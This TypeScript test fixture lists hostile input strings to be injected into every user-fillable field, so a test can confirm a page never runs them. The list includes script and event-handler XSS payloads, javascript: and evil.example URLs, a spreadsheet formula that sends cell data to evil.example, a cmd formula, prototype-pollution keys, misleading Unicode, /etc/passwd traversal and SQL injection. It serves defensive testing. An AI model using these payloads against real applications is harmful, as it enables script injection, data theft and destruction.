/** What a page calls when a hostile text has run; the test watches it. */
export const SENTINEL = 'watertightRan';

const RUN = `${SENTINEL}(1)`;

/**
 * Texts that run, leave, break out or mislead where somebody forgets that they are text. Each is put into every field that
 * people outside can fill.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Elements and attributes.
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt src=https://evil.example/a.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/a.swf">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<form action="https://evil.example/"><button>Sign in</button></form>`,
  `<a href="javascript:${RUN}">log in again</a>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' style='background:url(https://evil.example/a.png)'`,
  '<!--<img src=x>--!>',
  ']]><x>',
  // Addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://example.com`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '//evil.example/%2e%2e',
  'https://evil.example/?a=1',
  '/\\evil.example',
  // Entities and templates.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  '[click](javascript:alert)',
  // Names that objects have.
  '__proto__',
  'constructor',
  'toString',
  '__proto__[isAdmin]',
  '{"__proto__":{"isAdmin":true}}',
  // Characters that mislead.
  'safe\u202Egnp.exe',
  'a\u2066b\u2069c\u200Bd\uFEFFe',
  'null\u0000byte',
  'bell\u0007 \u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  'line\nbreak\r\nSet-Cookie: a=b',
  'lone \uD800 surrogate',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E\u030F',
  '\u{1F469}\u200D\u{1F4BB}\uFDFD',
  // Formulas.
  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  `=cmd|'/c calc'!A1`,
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  // Size.
  'A'.repeat(5_000),
  `${'<b>'.repeat(600)}`,
  // Paths and SQL.
  '../../../../etc/passwd',
  `' OR '1'='1'; DROP TABLE alert--`,
  '%',
  '%00%ff%zz',
];
